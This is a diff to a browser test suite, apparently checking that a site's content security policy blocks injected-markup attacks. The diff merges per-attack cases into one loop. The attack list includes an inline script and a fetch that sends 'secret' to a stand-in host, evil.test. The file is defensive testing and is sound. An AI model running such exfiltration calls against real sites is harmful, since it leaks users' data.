@@ -4,7 +4,7 @@ import { refusedByPolicy, useBrowser } from '../support/browser.ts'
 
 const { visit } = useBrowser()
 
-/** What somebody who got markup into a page would try, each by itself; every success would leave `planted` behind. */
+/** What somebody who got markup into a page would try, one after the other; every success would leave `planted` behind. */
 const attacks: Record<string, (page: Page) => Promise<unknown>> = {
   'an inline script': (page) =>
     page.evaluate(() => {
@@ -58,7 +58,7 @@ const attacks: Record<string, (page: Page) => Promise<unknown>> = {
     page.evaluate(() => fetch('https://evil.test/steal?what=secret').catch(() => undefined)),
 }
 
-it.each(Object.keys(attacks))('the browser refuses %s', async (attack) => {
+it('the browser refuses whatever somebody tries who got markup into a page', async () => {
   const { page, takeComplaints } = await visit('/home')
   const asked: string[] = []
   // Only what the policy lets through gets here.
@@ -66,16 +66,18 @@ it.each(Object.keys(attacks))('the browser refuses %s', async (attack) => {
     asked.push(route.request().url())
     return route.fulfill({ contentType: 'text/javascript', body: 'window.planted = true' })
   })
-  const complaints: string[] = []
-  const isRefused = () => {
-    complaints.push(...takeComplaints())
-    return complaints.some((text) => refusedByPolicy.test(text))
+  for (const [name, attack] of Object.entries(attacks)) {
+    const complaints: string[] = []
+    const isRefused = () => {
+      complaints.push(...takeComplaints())
+      return complaints.some((text) => refusedByPolicy.test(text))
+    }
+    await attack(page)
+    await expect.poll(isRefused, { message: name }).toBe(true)
+    expect([name, await page.evaluate(() => 'planted' in window), asked]).toEqual([name, false, []])
+    expect(new URL(page.url()).pathname).toBe('/home')
+    // Every refusal it writes about is of the policy.
+    const others = [...complaints, ...takeComplaints()].filter((text) => !refusedByPolicy.test(text))
+    expect([name, ...others]).toEqual([name])
   }
-  await attacks[attack]?.(page)
-  await expect.poll(isRefused).toBe(true)
-  expect(await page.evaluate(() => 'planted' in window)).toBe(false)
-  expect(asked).toEqual([])
-  expect(new URL(page.url()).pathname).toBe('/home')
-  // Every refusal it writes about is of the policy.
-  expect([...complaints, ...takeComplaints()].filter((text) => !refusedByPolicy.test(text))).toEqual([])
 })
